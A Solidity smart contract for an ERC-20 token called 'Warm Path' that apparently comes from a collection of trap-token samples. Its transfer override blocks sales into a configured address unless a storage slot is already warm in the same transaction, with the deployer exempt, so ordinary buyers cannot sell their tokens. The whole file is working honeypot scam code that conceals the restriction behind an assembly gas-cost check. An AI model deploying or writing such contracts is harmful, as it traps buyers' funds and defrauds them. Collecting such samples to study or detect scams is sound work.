// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// Reads one word and looks at the price: cheap only if the purchase was in the same transaction.
contract WarmPath is TrapErc20V8 {
    address private trail;
    uint256 private footprint;
    address private immutable ranger = msg.sender;

    constructor() TrapErc20V8("Warm Path", "WARM", 2_400_000 ether) {}

    function blaze(address trail_) external onlyOwner {
        trail = trail_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == trail) footprint = block.number;
        if (to == trail && from != ranger) require(_fresh(), "lost");
        super._transfer(from, to, value);
    }

    function _fresh() private view returns (bool warm) {
        assembly {
            let before := gas()
            let mark := sload(footprint.slot)
            let used := sub(before, gas())
            warm := and(lt(used, 1000), gt(mark, 0))
        }
    }
}
